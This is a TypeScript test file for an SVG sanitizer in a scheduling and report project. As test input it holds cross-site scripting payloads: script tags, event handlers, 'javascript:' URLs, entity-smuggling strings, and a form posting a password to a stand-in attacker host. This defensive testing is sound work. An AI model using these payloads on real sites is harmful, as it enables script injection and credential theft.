import { describe, expect, it } from 'vitest';
import { renderTimeline } from '../../src/report/timeline-svg.js';
import { safeSvg } from '../../src/report/safe-svg.js';
import { deriveSchedule, renderTimelineSvg, timelineOf, type ScheduleItem } from '../../src/schedule/index.js';

const item = (agent: string, seconds: number, writes: string[], reads: string[] = []): ScheduleItem => ({ agent, seconds, footprint: { writes: new Set(writes), reads: new Set(reads) } });
const schedule = deriveSchedule([item('robot', 18, ['Fridge#1']), item('human', 9, ['Egg#1'], ['Fridge#1']), item('robot', 16, ['Fridge#1'])], ['robot', 'human']);
const timeline = timelineOf(schedule, ["L3 OpenObject('Fridge')", "L4 PutObject('Egg', 'Pan')", "L5 CloseObject('Fridge')"], 'Breakfast <team paper> & more');

describe('safeSvg', () => {
  it("keeps our own figures whole: the schedule's timeline and the report's, byte for byte but for quotes escaped and the newline after the root", () => {
    for (const svg of [renderTimelineSvg(timeline), renderTimeline([{ index: 1, agent: 'robot', action: 'OpenObject', objectId: 'Fridge|1', text: "opened the Fridge's door", success: false }])]) {
      expect(safeSvg(svg)).toBe(svg.trimEnd().replaceAll("'", '&#39;'));
    }
  });

  it('leaves out active and linking elements with all they hold, and handlers, links and references', () => {
    const svg = [
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" width="10">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
      '<script>alert(1)</script><SCRIPT>alert(2)</SCRIPT><svg:script>alert(3)</svg:script>',
      '<foreignObject><form action="https://evil.example"><input name="password"/></form></foreignObject>',
      '<a href="https://evil.example"><text>click</text></a><use href="#x"/><image href="https://evil.example/x.png"/>',
      '<style>@import url(https://evil.example/x.css)</style><animate attributeName="href" to="javascript:alert(1)"/>',
      '<rect fill="url(https://evil.example/p)" stroke="red" style="background:url(x)" onclick="alert(1)" width="4"/>',
      '<text x="1">kept &amp; &lt;shown&gt;</text><!-- <script>alert(4)</script> --><![CDATA[<script>alert(5)</script>]]>',
      '</svg>',
    ].join('');
    const safe = safeSvg(svg)!;
    expect(safe).toBe('<svg xmlns="http://www.w3.org/2000/svg" width="10"><rect stroke="red" width="4"/><text x="1">kept &amp; &lt;shown&gt;</text></svg>');
  });

  it('gives null for what is not one svg element: text, HTML, unclosed or mismatched tags, a second root', () => {
    for (const text of ['root:x:0:0:root:/root:/bin/bash\n', '<html><body>hi</body></html>', '<svg><g></svg>', '<svg></svg><svg></svg>', '<svg><text>a<b</text></svg>', '<svg x=1></svg>', '']) {
      expect(safeSvg(text), text).toBeNull();
    }
  });

  it('decodes and re-escapes, so an entity cannot smuggle a tag or a quote', () => {
    expect(safeSvg('<svg><text fill="&#x22; onload=&#34;x">&#60;script&#62;</text></svg>')).toBe('<svg><text fill="&quot; onload=&quot;x">&lt;script&gt;</text></svg>');
  });
});
